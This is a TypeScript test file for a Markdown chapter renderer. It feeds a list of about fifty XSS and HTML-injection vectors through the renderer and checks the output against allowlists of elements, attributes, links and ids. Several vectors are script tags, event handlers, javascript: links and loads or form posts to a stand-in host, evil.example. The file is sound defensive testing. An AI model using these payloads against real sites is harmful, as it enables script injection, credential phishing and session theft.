import { fromHtml } from "hast-util-from-html";
import { visit } from "unist-util-visit";
import { describe, expect, it } from "vitest";
import { renderChapter } from "@/lib/book/render/render-chapter";

const links = {
  chapterAddress: () => undefined,
  picture: () => undefined,
  glossarySlug: undefined,
};

const VECTORS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<img src=\"x\" onerror='alert(1)' srcset='//evil.example/a 1x'>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=//evil.example>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='  java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='data:text/html,x'>x</a> <a href=vbscript:x>y</a>",
  "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html;base64,PHN2Zz4=)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1)) ![y](https://evil.example/t.gif) ![z](data:image/svg+xml,<svg/>)",
  "<form action=//evil.example><input name=password><button>Go</button></form>",
  "<div style='position:fixed;inset:0;background:url(//evil.example)'>cover</div>",
  "<p class='fixed inset-0' onclick=alert(1) onmouseover=alert(1) tabindex=1 contenteditable>x</p>",
  "<style>body{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
  "<a id=config name=config>x</a><form id=document></form><img name=cookie>",
  "<h2 id=__proto__>x</h2><p id=main aria-labelledby=x>y</p>",
  "<video src=//evil.example onerror=alert(1)></video><audio src=//evil.example autoplay></audio>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea><img src=x onerror=alert(1)></textarea><title><script>alert(1)</script></title>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php <script>alert(1)</script> ?>",
  "<plaintext><script>alert(1)</script>",
  "<template><script>alert(1)</script></template><slot></slot>",
  "<x-y onclick=alert(1)>custom</x-y><marquee onstart=alert(1)>m</marquee>",
  "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$ $\\includegraphics{//evil.example/x}$",
  "$\\htmlStyle{position:fixed}{x}$ $\\htmlId{main}{x}$ $\\htmlClass{fixed}{x}$",
  "$$\n\\def\\a{\\a\\a}\\a\n$$",
  "```html\n<script>alert(1)</script>\n```",
  '```ts title="</figcaption><script>alert(1)</script>"\n1\n```',
  "<code class='language-math'>\\href{javascript:alert(1)}{x}</code>",
  "<code class='language-html' data-title='<script>alert(1)</script>' data-marks='{'>x</code>",
  "<pre><code class='language-ts' id=main onclick=alert(1)>let x</code></pre>",
  ":side[<img src=x onerror=alert(1)>]{onclick=alert(1) #main .fixed}",
  "> [!NOTE]\n> <script>alert(1)</script>",
  "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
  "x[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: y",
  "## <img src=x onerror=alert(1)>\n\ntext",
  '<a href="https://ok.example" target=_blank ping=//evil.example rel=opener>x</a>',
  "<table><tr><td background=//evil.example>x</td></tr></table><td>alone</td>",
  "</article></main><script>alert(1)</script><body onload=alert(1)>",
  "<span lang='\"><script>alert(1)</script>'>x</span>",
];

const ELEMENTS =
  /^(a|aside|b|blockquote|br|code|del|details|div|em|figcaption|figure|h[2-6]|input|ins|kbd|li|ol|p|pre|section|span|strong|summary|sup|table|tbody|td|th|thead|tr|ul)$/;
const ATTRIBUTES =
  /^(href|id|className|title|lang|dir|role|rel|tabIndex|colSpan|rowSpan|scope|align|start|reversed|value|open|disabled|checked|type|cite|dateTime|aria[A-Z]\w+|data(Title|Marks))$/;
const HREF = /^(#|https?:|mailto:|\/|[\w.-]*$)/;
const ID = /^(b-[0-9a-f]{8}(-\d+)?|fn(ref)?-.+|footnote-label)$/;

/** Formulas are drawn by KaTeX with styles, numbers and MathML of its own. */
function findOffences(html: string): string[] {
  const found: string[] = [];
  visit(fromHtml(html, { fragment: true }), "element", ({ tagName, properties }) => {
    if (/^katex/.test(String(properties.className ?? ""))) return "skip";
    if (!ELEMENTS.test(tagName)) found.push(`<${tagName}>`);
    for (const [name, value] of Object.entries(properties)) {
      if (!ATTRIBUTES.test(name)) found.push(`${tagName} ${name}`);
      if (name === "href" && !HREF.test(String(value))) found.push(`href ${value}`);
      if (name === "id" && !ID.test(String(value))) found.push(`id ${value}`);
      if (name === "className" && /fixed|inset/.test(String(value))) found.push(`class ${value}`);
    }
    return undefined;
  });
  return found;
}

describe("hostile Markdown does nothing", () => {
  it.each(VECTORS)("%s", async (vector) => {
    const markdown = `Before.\n\n${vector}\n\nAfter.`;
    const { full } = await renderChapter({ markdown, access: "free", links });
    expect(findOffences(full.html)).toEqual([]);
  });

  it("is noticed by this test", () => {
    const hostile = '<p onclick=x id=main><script></script><a href="javascript:x">x</a></p>';
    expect(findOffences(hostile)).toEqual([
      "p onClick",
      "id main",
      "<script>",
      "href javascript:x",
    ]);
  });

  it("keeps formulas free of links, handlers and addresses", async () => {
    const markdown = VECTORS.filter((vector) => vector.startsWith("$")).join("\n\n");
    const { full } = await renderChapter({ markdown, access: "free", links });
    visit(fromHtml(full.html, { fragment: true }), "element", ({ tagName, properties }) => {
      expect(tagName).not.toMatch(/^(a|img|script)$/);
      expect(Object.keys(properties).filter((name) => /^(on|href|src)/i.test(name))).toEqual([]);
      expect(String(properties.style ?? "")).not.toMatch(/url|position|expression/);
    });
  });

  it("is not slow to refuse", async () => {
    const markdown = `${"> ".repeat(80)}x\n\n${"*a **b ".repeat(800)}\n\n${"[".repeat(2000)}\n\n${"<div>".repeat(400)}\n\n${":side[".repeat(300)}\n\n${"$".repeat(999)}`;
    const started = performance.now();
    await renderChapter({ markdown, access: "book", links });
    expect(performance.now() - started).toBeLessThan(5_000);
  });
});
